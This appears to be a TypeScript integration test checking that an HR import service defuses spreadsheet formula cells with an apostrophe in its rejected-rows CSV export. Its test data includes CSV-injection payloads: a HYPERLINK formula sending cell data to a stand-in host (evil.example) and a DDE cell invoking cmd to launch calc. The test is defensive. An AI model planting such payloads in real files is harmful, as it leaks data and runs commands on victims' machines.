// Formula cells that came in with an import never run when the app writes them out again: a staff list with
// names such as `=HYPERLINK(...)`, `+7 ...`, `@SUM(...)` and `-2+3` goes through the real main-service, the
// stored report is read back as the client reads it, and the rejected rows' CSV the client builds from it
// (the export HR opens in Excel) has every such cell prefixed with an apostrophe, one that spans lines too.
// The data itself stays as typed: the accepted name is stored and answered unchanged.
import { randomBytes } from 'node:crypto';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportReport } from '../../src/domain/company';
import type { EmployeeRow } from '../../src/domain/suggestion';
import { rejectedRowsCsv } from '../../src/features/employees/import/rejected-csv';
import { api, createTestApp, json, type TestApp } from '../../server/test-support';
import { createCompany, signUpMember, type Fixture, type Login } from '../../server/features/suggestions/fixtures';

let t: TestApp;
let hr: Login;
let acme: Fixture;

beforeAll(async () => {
  t = await createTestApp();
  hr = await signUpMember(t);
  acme = await createCompany(t.db, 'Acme', { [hr.id]: ['HR'] });
});
afterAll(() => t.close());

const HEADERS = ['Фамилия', 'Имя', 'Email'];
const csvCell = (value: string) => (/[";\r\n\t]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);

async function importCsv(rows: string[][]): Promise<ImportReport> {
  const text = `\ufeff${[HEADERS, ...rows].map((row) => row.map(csvCell).join(';')).join('\r\n')}\r\n`;
  const boundary = `----formulas${randomBytes(6).toString('hex')}`;
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="staff.csv"\r\nContent-Type: text/csv\r\n\r\n`),
    Buffer.from(text, 'utf8'),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const res = await t.app.inject({
    method: 'POST',
    url: api(`/companies/${acme.companyId}/employees/import`),
    headers: { authorization: `Bearer ${hr.access}`, Language: 'ru', 'content-type': `multipart/form-data; boundary=${boundary}` },
    payload,
  });
  expect(res.statusCode, res.body).toBe(201);
  const { id } = json<{ data: ImportReport }>(res).data;
  // Read back as the report page reads it: the stored report.
  const stored = await t.app.inject({ method: 'GET', url: api(`/companies/${acme.companyId}/employees/imports/${id}`), headers: { authorization: `Bearer ${hr.access}`, Language: 'ru' } });
  expect(stored.statusCode, stored.body).toBe(200);
  return json<{ data: ImportReport }>(stored).data;
}

describe('formula cells from an import, written out again', () => {
  it('are prefixed with an apostrophe in the rejected rows export, and stored as typed', async () => {
    const accepted = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")';
    const rejectedCells = ['+7 912 345-67-89', '@SUM(1+1)', '-2+3', '=1+1\nвторая строка', '\t=cmd|\' /C calc\'!A0', '\r=1'];
    const report = await importCsv([
      [accepted, 'Иван', ''],
      // No first name: rejected, so each of these cells is written into the export.
      ...rejectedCells.map((cell) => [cell, '', '']),
      ['Петров', '=2+2', 'not an e-mail'],
    ]);
    expect(report.imported).toMatchObject([{ row: 2, action: 'created' }]);
    expect(report.rejected.map((r) => r.row)).toEqual([3, 4, 5, 6, 7, 8, 9]);

    const csv = rejectedRowsCsv(report.rejected, { labels: { row: 'Строка', reason: 'Причина', column: (n) => `Столбец ${n}` }, headers: HEADERS, locale: 'ru' });
    const parsed = Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true });
    const [header, ...lines] = parsed.data;
    expect(header).toEqual(['Строка', 'Причина', ...HEADERS]);
    const lastNames = lines.map((line) => line[2]);
    // The import reads cells trimmed, so a leading tab or CR is gone by then; the `=` behind it is defused.
    expect(lastNames.slice(0, rejectedCells.length)).toEqual(rejectedCells.map((cell) => `'${cell.trim()}`));
    expect(lines.at(-1)?.slice(2)).toEqual(['Петров', "'=2+2", 'not an e-mail']);
    // Nothing in the file starts like a formula any more.
    for (const line of lines) for (const cell of line.slice(2)) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);

    // The accepted name is kept exactly as typed: only files get the apostrophe.
    const list = await t.app.inject({ method: 'GET', url: api(`/companies/${acme.companyId}/employees?search=HYPERLINK`), headers: { authorization: `Bearer ${hr.access}` } });
    expect(json<{ data: { items: EmployeeRow[] } }>(list).data.items.map((e) => e.lastName)).toEqual([accepted]);
  });
});
